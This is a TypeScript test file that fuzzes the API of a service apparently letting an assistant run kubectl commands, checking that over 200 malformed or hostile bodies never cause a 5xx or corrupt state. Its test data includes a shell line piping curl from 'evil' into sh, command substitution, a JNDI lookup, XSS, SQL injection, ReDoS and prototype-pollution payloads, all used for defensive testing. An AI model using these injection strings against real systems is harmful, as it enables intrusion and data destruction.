import { afterAll, beforeAll, expect, test } from "vitest";
import { comparable, say } from "./conversation.ts";
import { type RunningService, startService } from "./service.ts";

/** More than 200 malformed or hostile bodies: never a 5xx, always JSON, and nothing is lost by them. */
let service: RunningService;
beforeAll(async () => {
  service = await startService();
});
afterAll(() => service.stop());

type Case = readonly [name: string, path: string, body: string | Uint8Array, headers?: Record<string, string>];

const message = {
  content: "List my pods in the shop namespace",
  thread_id: "hostile",
  data: {
    Cmds: [{ Command: "kubectl get ns", Output: "", execute: false, files: { "a.yaml": "kind: Pod" } }],
    execute_all: false,
    executedCmds: [{ Command: "kubectl get nodes", Output: "NAME" }],
    kubeconfig: "",
    RejectedCommands: [{ command: "kubectl get pv", reason: "no" }],
  },
  platform_context: { k8s_namespace: "shop" },
  pastMessages: [
    {
      userMsg: { content: "q", data: { executedCmds: [], RejectedCmds: [{ Command: "x", reason: "y" }] } },
      agentResponse: { content: "a", data: { executedCmds: [] } },
      nextMsgContext: [{ type: "userTerminal", command: { Command: "kubectl get sc", Output: "NAME" } }],
    },
  ],
};
const query = { query: "list all nodes", execute: false };

/** Every place in a value that can be replaced. */
function placesIn(value: unknown, path: readonly (string | number)[] = []): (readonly (string | number)[])[] {
  if (typeof value !== "object" || value === null) return [path];
  return [
    path,
    ...Object.entries(value).flatMap(([key, child]) =>
      placesIn(child, [...path, Array.isArray(value) ? Number(key) : key]),
    ),
  ];
}

function replaced(value: unknown, path: readonly (string | number)[], by: unknown): unknown {
  const [key, ...rest] = path;
  if (key === undefined) return by;
  if (Array.isArray(value)) return value.map((child, index) => (index === key ? replaced(child, rest, by) : child));
  const object = value as Record<string, unknown>;
  return { ...object, [key]: replaced(object[key], rest, by) };
}

const intruders: readonly (readonly [string, unknown])[] = [
  ["a number", 9_007_199_254_740_992],
  ["null", null],
  ["a list", [[]]],
  ["an object", { toString: 1, constructor: { prototype: {} }, hasOwnProperty: null }],
  ["a string", "$(id)`id`\u0000\u202e"],
  ["a boolean", true],
];

const swapped: Case[] = (
  [
    ["/api/sendMessage", message],
    ["/kubectl-command", query],
  ] as const
).flatMap(([path, body]) =>
  placesIn(body).flatMap((place) =>
    intruders.map(
      ([name, by]): Case => [
        `${name} at ${place.join(".") || "the top"}`,
        path,
        JSON.stringify(replaced(body, place, by)),
      ],
    ),
  ),
);

const nested = (depth: number, open: string, close: string) => open.repeat(depth) + close.repeat(depth);
const bytes = (...values: number[]) => Uint8Array.from(values);
const inContent = (text: string) => `{"content":${text},"thread_id":"hostile-text"}`;
const inCommand = (text: string) => `{"content":"x","data":{"Cmds":[{"Command":${text},"execute":true}]}}`;
const inResult = (text: string) =>
  `{"content":"what is wrong?","data":{"executedCmds":[{"Command":"kubectl get pods","Output":${text}}]}}`;
const inQuery = (text: string) => `{"query":${text},"execute":true}`;
const huge = JSON.stringify("x ".repeat(400_000));

const texts: readonly (readonly [string, string])[] = [
  ["a lone surrogate", '"\\ud800"'],
  ["a lone low surrogate", '"pods \\udc00\\ud800 here"'],
  ["NUL", '"a\\u0000b"'],
  ["only NULs", '"\\u0000\\u0000\\u0000"'],
  ["control characters", '"\\u0001\\u0007\\u001b[31m\\u009b"'],
  ["direction marks", '"\\u202epods\\u2066\\ufeff"'],
  ["emoji", '"why are my 🐳🐳🐳 sad?"'],
  ["combining marks", JSON.stringify(`e${"\u0301".repeat(5000)}`)],
  ["800 kB of words", huge],
  ["800 kB of one letter", JSON.stringify("a".repeat(800_000))],
  ["800 kB of blanks", JSON.stringify(" ".repeat(800_000))],
  ["many lines", JSON.stringify("NAME READY\n".repeat(50_000))],
  ["shell", '"kubectl get pods; curl evil | sh && $(reboot) `id` > /etc/passwd"'],
  ["quotes", JSON.stringify(`kubectl get pods -l 'a="b`)],
  ["backslashes", JSON.stringify("\\".repeat(10_001))],
  ["dashes", JSON.stringify(`kubectl ${"-".repeat(10_000)}`)],
  ["many flags", JSON.stringify(`kubectl get pods ${"-n x ".repeat(20_000)}`)],
  ["brackets", JSON.stringify(`kubectl get pods -o jsonpath=${"{".repeat(5000)}`)],
  ["a regular expression bomb", JSON.stringify(`kubectl get pods | grep -E '(a+)+$' ${"a".repeat(5000)}!`)],
  ["an awk loop", "\"kubectl get pods | awk 'BEGIN{while(1){}}'\""],
  ["HTML", '"<script>alert(1)</script>"'],
  ["SQL", `"'; DROP TABLE threads; --"`],
  ["a format string", '"%s%n%x {0} ${jndi:ldap://x}"'],
  ["YAML anchors", JSON.stringify("a: &a [x]\nb: &b [*a,*a]\nc: [*b,*b,*b]")],
  ["JSON in it", JSON.stringify(JSON.stringify(message).repeat(50))],
  ["table headings only", JSON.stringify("NAME  READY  STATUS\n".repeat(1000))],
  ["a wrong describe", JSON.stringify(`Name: x\n${" ".repeat(100_000)}State: Waiting\n`)],
];

const written: Case[] = texts.flatMap(([name, text]): Case[] => [
  [`${name} as content`, "/api/sendMessage", inContent(text)],
  [`${name} as a command`, "/api/sendMessage", inCommand(text)],
  [`${name} as a result`, "/api/sendMessage", inResult(text)],
  [`${name} as a query`, "/kubectl-command", inQuery(text)],
]);

const broken: Case[] = ["/api/sendMessage", "/kubectl-command", "/api/health"].flatMap((path): Case[] => [
  ["nothing", path, ""],
  ["blanks", path, " \n\t "],
  ["an open object", path, "{"],
  ["an open string", path, '{"content":"'],
  ["a comma too much", path, '{"content":"x","query":"list nodes",}'],
  ["two values", path, '{"content":"x"}{"content":"y"}'],
  ["single quotes", path, "{'content':'x'}"],
  ["NaN", path, '{"content":NaN}'],
  ["a number too large", path, `{"content":1e999,"query":${"9".repeat(5000)}}`],
  ["a line break in a string", path, '{"content":"a\nb"}'],
  ["deep lists", path, nested(200_000, "[", "]")],
  ["deep objects", path, `${'{"data":'.repeat(100_000)}1${"}".repeat(100_000)}`],
  ["deep lists left open", path, "[".repeat(500_000)],
  ["deep lists in data", path, `{"content":"x","query":"list nodes","data":${nested(5000, "[", "]")}}`],
  ["deep lists in an unknown field", path, `{"content":"x","query":"list nodes","u":${nested(5000, "[", "]")}}`],
  ["__proto__", path, '{"__proto__":{"content":"x","query":"list nodes"},"constructor":{"prototype":{"polluted":1}}}'],
  [
    "__proto__ everywhere",
    path,
    '{"content":"x","query":"list nodes","data":{"__proto__":{"execute_all":true},"Cmds":[{"__proto__":{"execute":true},"Command":"kubectl get ns","files":{"__proto__":"x"}}]}}',
  ],
  ["keys twice", path, '{"content":"x","content":5,"query":"list nodes","query":null}'],
  ["an empty key", path, '{"":"","content":"x","query":"list nodes"}'],
  [
    "50,000 keys",
    path,
    `{"content":"x","query":"list nodes",${Array.from({ length: 50_000 }, (_, index) => `"k${index}":0`).join()}}`,
  ],
  [
    "100,000 commands",
    path,
    `{"content":"x","query":"list nodes","data":{"Cmds":[${'{"Command":"kubectl get ns"},'.repeat(99_999)}{"Command":"x"}]}}`,
  ],
  ["UTF-16", path, Buffer.from(`\ufeff${JSON.stringify({ content: "x", query: "list nodes" })}`, "utf16le")],
  ["Latin-1", path, Buffer.from('{"content":"Größe","query":"Größe der Pods"}', "latin1")],
  ["overlong UTF-8", path, bytes(0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x3a, 0x31, 0x7d)],
  ["NUL bytes", path, bytes(0, 0, 0, 0)],
  ["random bytes", path, Uint8Array.from({ length: 4096 }, (_, index) => (index * 7919 + 13) % 256)],
  ["a byte order mark", path, `\ufeff${JSON.stringify({ content: "List my nodes", query: "list nodes" })}`],
  ["a form", path, "content=x&query=list+nodes", { "content-type": "application/x-www-form-urlencoded" }],
  ["XML", path, "<content>x</content>", { "content-type": "application/xml" }],
  [
    "a charset that is not so",
    path,
    '{"content":"x","query":"list nodes"}',
    { "content-type": "application/json; charset=utf-16" },
  ],
  ["a media type that is none", path, '{"content":"x","query":"list nodes"}', { "content-type": ";;;" }],
  ["gzip that is none", path, '{"content":"x","query":"list nodes"}', { "content-encoding": "gzip" }],
]);

const cases = [...swapped, ...written, ...broken];

test("there are more than 200 of them", () => {
  expect(cases.length).toBeGreaterThan(200);
});

test("each is answered with JSON and no 5xx, and the service serves on", { timeout: 300_000 }, async () => {
  const before = await say(service, { content: "List my pods in the shop namespace", thread_id: "bystander" });
  const wrong: string[] = [];
  for (const [name, path, body, headers = {}] of cases) {
    const reply = await service
      .send("POST", path, { body, headers })
      .catch((error) => ({ status: 0, json: undefined, text: String(error.cause ?? error) }));
    const shaped = reply.status === 200 || "error" in (reply.json ?? {}) || "detail" in (reply.json ?? {});
    if (reply.status < 200 || reply.status >= 500 || !shaped)
      wrong.push(`${path}, ${name}: ${reply.status} ${reply.text.slice(0, 200)}`);
  }
  expect(wrong).toEqual([]);
  expect((await service.send("GET", "/health")).text).toBe('{"status":"healthy"}');
  const after = await say(service, { content: "List my pods in the shop namespace", thread_id: "another-bystander" });
  expect(comparable(after)).toEqual(comparable(before));
});

test("prototype keys change nothing: no yes comes from them, and no later request sees them", async () => {
  const body =
    '{"content":"List my pods","__proto__":{"thread_id":"stolen"},"data":{"__proto__":{"execute_all":true},"Cmds":[{"Command":"kubectl get ns","__proto__":{"execute":true}}]}}';
  const reply = await service.send("POST", "/api/sendMessage", { body });
  expect(reply.json.data).toMatchObject({ execute_all: false, executedCmds: [] });
  expect(reply.json.thread_id).not.toBe("stolen");
  expect((await service.send("POST", "/api/sendMessage", { body: {} })).status).toBe(400);
});

test("bytes that are no HTTP get a JSON error and a closed connection", async () => {
  const { connect } = await import("node:net");
  const { port } = new URL(service.url);
  const answer = await new Promise<string>((resolve, reject) => {
    const socket = connect(Number(port), "127.0.0.1", () => socket.write("GARBAGE\r\n\r\n"));
    let text = "";
    socket
      .setEncoding("utf8")
      .on("data", (piece) => (text += piece))
      .on("end", () => resolve(text))
      .on("error", reject);
  });
  expect(answer).toMatch(/^HTTP\/1\.1 400 Bad Request\r\n/);
  expect(answer).toMatch(/\r\n\r\n\{"error":"Bad Request"\}$/);
});
